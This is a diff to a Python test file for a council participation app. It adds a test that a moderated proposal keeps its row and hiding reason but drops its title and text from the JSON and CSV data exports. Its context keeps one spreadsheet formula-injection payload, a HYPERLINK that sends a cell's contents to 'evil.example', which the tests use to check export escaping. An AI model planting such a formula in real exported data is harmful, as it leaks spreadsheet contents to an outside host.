@@ -25,6 +25,7 @@ COUNCIL = "health-manchester"
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
 HIDDEN_TEXT = "A rude remark."
 HIDDEN_REASON = "Breaks the standards."
+HIDDEN_TITLE = "A title that named a member of staff"
 
 
 def _wipe(db) -> None:
@@ -38,7 +39,8 @@ def _build(make) -> dict:
     from participate.accounts.models import User
     from participate.councils.models import Membership
     from participate.extensions import db
-    from participate.proposals import discussion
+    from participate.proposals import discussion, moderation
+    from participate.proposals import services as proposals
     from participate.proposals.models import Proposal
     from participate.rounds import services as rounds
     from participate.rounds.models import Round
@@ -59,6 +61,12 @@ def _build(make) -> dict:
     mcr = proposal.council
     formula = discussion.add_comment(member, proposal, body=FORMULA, stance="question")
     discussion.add_comment(member, proposal, body="-1 is not a formula, @here is", stance="neutral")
+
+    # A proposal the clerk hides: its row stays, without its title, text or themes.
+    hidden_proposal = proposals.create_proposal(
+        member, mcr, title=HIDDEN_TITLE, body="Text that broke the standards.", themes=["gp"]
+    )
+    moderation.hide(clerk, hidden_proposal, reason="Names a member of staff.")
 
     # The open standalone motion: everyone eligible votes, then the clerk closes it.
     motion = db.session.get(Motion, ids["motion_id"])
@@ -107,6 +115,7 @@ def _build(make) -> dict:
         "ids": ids,
         "motion_id": motion.id,
         "open_motion_id": still_open.id,
+        "hidden_proposal_id": hidden_proposal.id,
         "formula_comment_id": formula.id,
         "round_id": round_.id,
         "council_id": mcr.id,
@@ -247,6 +256,18 @@ def test_a_hidden_comment_is_listed_as_hidden_with_its_reason_never_its_text(web
         for council in (None, COUNCIL):
             text = _get(web, _url("comments", fmt, council)).get_data(as_text=True)
             assert HIDDEN_TEXT not in text and HIDDEN_REASON in text
+
+
+def test_a_hidden_proposal_keeps_its_row_and_reason_but_not_its_text(web, world):
+    [row] = [p for p in _json(web, "/data/proposals.json") if p["hidden"]]
+    assert row["id"] == world["hidden_proposal_id"]
+    assert row["hidden_reason"] == "Names a member of staff."
+    assert row["title"] is None and row["body"] is None and row["themes"] == []
+    for fmt in ("json", "csv"):
+        for council in (None, COUNCIL):
+            for dataset in ("proposals", "agenda_items", "forwards"):
+                text = _get(web, _url(dataset, fmt, council)).get_data(as_text=True)
+                assert HIDDEN_TITLE not in text and "broke the standards" not in text
 
 
 def test_the_ballots_are_the_published_ballot_file_and_name_no_voter(web, world):
